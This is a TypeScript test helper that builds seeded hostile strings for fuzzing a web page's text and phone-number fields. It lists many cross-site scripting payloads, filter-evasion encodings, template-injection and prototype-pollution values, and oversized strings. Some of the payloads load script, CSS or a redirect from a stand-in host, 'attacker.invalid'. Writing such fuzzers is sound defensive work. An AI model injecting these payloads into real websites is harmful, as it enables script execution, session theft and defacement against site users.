/**
 * Hostile strings: whatever somebody may put where a name, a number or a sentence belongs. Made by
 * a grammar from a seed, so that a failure can be had again.
 */
import { numbersFrom } from '../prove/random-patients.js';

/** What each script in them calls, if it ever runs. */
export const ALARM = 'pwned';

const RUN = `${ALARM}()`;
const AWAY = 'https://attacker.invalid/';

/** How a string leaves the place it stands in. */
const BREAKOUTS = [
  '', '"', "'", '`', '>', '">', "'>", '" ', "' ", '/>', '"/>', '-->', '--!>', '<!--', ']]>', '<![CDATA[',
  '</script>', '</style>', '</title>', '</textarea>', '</template>', '</noscript>', '</svg>', '</math>',
  '</details>', '</summary>', '</select>', '</option>', '</p>', '</a>', '</lp-faq>', '</lp-settings>',
  '${', '{{', '#{', '<%=', '\\"', "\\'", '\\u0022', '"}', '"]', '"},{"', '*/', '//', ';', '\n', '\r\n\r\n',
]; // prettier-ignore

/** What runs, loads, looks, leads away or pretends to be ours. */
const PAYLOADS = [
  `<script>${RUN}</script>`,
  `<script src="${AWAY}x.js"></script>`,
  `<script type="module">${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src="${AWAY}x.png">`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x">`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=9>999</text></a></svg>`,
  `<math><mi xlink:href="javascript:${RUN}">999</mi></math>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="${AWAY}x.swf">`,
  `<base href="${AWAY}">`,
  `<meta http-equiv="refresh" content="0;url=${AWAY}">`,
  `<link rel="stylesheet" href="${AWAY}x.css">`,
  `<style>@import "${AWAY}x.css";*{display:none}</style>`,
  `<a href="javascript:${RUN}">999</a>`,
  `<a href="tel:000">Call 000</a>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}><summary>999</summary></details>`,
  `<video><source onerror=${RUN}></video>`,
  `<body onpageshow=${RUN}>`,
  `<marquee onstart=${RUN}>999</marquee>`,
  `<button formaction="javascript:${RUN}">999</button>`,
  `<form action="${AWAY}" id=x><input name=attributes><input name=getAttribute></form>`,
  '<img name=currentScript><img name=querySelector><img name=createElement>',
  '<a id=adoptedStyleSheets></a><a id=getElementById name=getElementById></a>',
  '<lp-settings region="US" emergency-phone="000">',
  `<lp-faq onclick=${RUN} json-ld>`,
  `<div data-lp="faq" data-lp-region="US">`,
  ` onmouseover=${RUN} x=`,
  ` autofocus tabindex=1 onfocus=${RUN} `,
  ` style="background:url(${AWAY}x.png);position:fixed;inset:0" `,
  `;background:url(${AWAY}x.png);`,
  `}*{display:none!important}a{`,
  `expression(${RUN})`,
  `javascript:${RUN}`,
  `javascript://%0a${RUN}`,
  `java\tscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+`,
  `blob:${AWAY}x`,
  `tel:000`,
  `tel:999;javascript:${RUN}`,
  `sms:000?body=x`,
  '<?lit$000000000$>',
  '<!--?lit$000000000$-->',
  'lit$000000000$',
  '$lit$',
  '<!--?-->',
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `{{$on.constructor('${RUN}')()}}`,
  '{number}',
  '{date} {due} {hours} {constructor}',
  "$& $' $` $1 $$",
  '__proto__',
  'constructor',
  'hasOwnProperty',
  'toString',
  '","region":"US","emergency-phone":"000","x":"',
  '{"__proto__":{"region":"US"}}',
  '{"constructor":{"prototype":{"region":"US"}}}',
  '\\u0022,\\u0022region\\u0022:\\u0022US',
  'x000',
  '000 ext. 1 or',
  '+0(0)0 a',
  '0\u0660\u0661\u0662',
  '\uff19\uff19\uff19',
  '9\u20ddx9\u20dd9\u20dd',
  'list steps',
  'GB-ENG US',
  'en-GB-x-'.repeat(4),
  '1e3',
  '-1',
  'NaN',
  'undefined',
  'null',
]; // prettier-ignore

const ALL = /[\s\S]/gu;
const each = (text: string, change: (one: string) => string): string => text.replace(ALL, change);

/** How a string hides from a filter, or spoils how it is drawn. */
const DISGUISES: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase(),
  (text) => each(text, (one) => (Math.abs(one.codePointAt(0)!) % 2 ? one.toUpperCase() : one)),
  (text) => text.replaceAll(' ', '/'),
  (text) => text.replaceAll(' ', '\t\n'),
  (text) => text.replaceAll('<', '<\0').replaceAll(':', '\0:'),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '&#x3c;').replaceAll('"', '&quot;'),
  (text) => text.replaceAll('<', '%3C').replaceAll('>', '%3E'),
  (text) => text.replaceAll('<', '\\u003c').replaceAll("'", '\\x27'),
  (text) => text.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
  (text) => text.replaceAll('<', '\ufe64').replaceAll('s', '\u017f').replaceAll('k', '\u212a'),
  (text) => `\u202e${text}`,
  (text) => `\u202e${text}\u202c 666`,
  (text) => `\u2067${text}`,
  (text) => `${text}\u2069\u202d`,
  (text) => `\u200f${text}\u061c`,
  (text) => text.split('').join('\u200b'),
  (text) => `\ufeff${text}\u00ad`,
  (text) => `${text}\ud800`,
  (text) => `\udfff${text}`,
  (text) => each(text.slice(0, 40), (one) => `${one}${'\u0336\u0489\u035c'.repeat(5)}`),
  (text) => `${text}\u2028${text}`,
  (text) => text.repeat(20),
  (text) => `GB-ENG${text}`,
  (text) => `999 ${text}`,
  (text) => `lp-faq-emergency-signs${text}`,
  (text) => encodeURIComponent(text),
  (text) => JSON.stringify(text),
];

/** Strings so long that a page would stand still if it read them more than once. */
const HUGE = [
  'a'.repeat(1_000_000),
  `1${' '.repeat(1_000_000)}a`,
  'x1'.repeat(500_000),
  'a-'.repeat(500_000),
  'mo-su 00:00-24:00 '.repeat(60_000),
  `${'<b>'.repeat(300_000)}a`,
  `a${'\u0301'.repeat(1_000_000)}`,
];

/** What a hospital could mean: a number, with an extension or without. */
const NUMBER = /^[\d\s+().[\]\u2010-\u2015-]*((extension|extn?\.?|x)\s*\d+)?$/i;
const UNSEEN = /[\p{C}\p{Zl}\p{Zp}\p{M}]/gu;

/** That many different hostile strings, none of which is a number or empty. */
export function hostileStrings(count: number, seed: number): readonly string[] {
  const next = numbersFrom(seed);
  const pick = <T>(from: readonly T[]): T => from[Math.floor(next() * from.length)]!;
  const found = new Set<string>(HUGE);
  const add = (text: string): void => {
    if (!NUMBER.test(text.replace(UNSEEN, ''))) found.add(text);
  };
  PAYLOADS.forEach(add);
  while (found.size < count) {
    const payload = next() < 0.2 ? `${pick(PAYLOADS)}${pick(PAYLOADS)}` : pick(PAYLOADS);
    add(pick(DISGUISES)(`${pick(BREAKOUTS)}${payload}`));
  }
  return [...found];
}
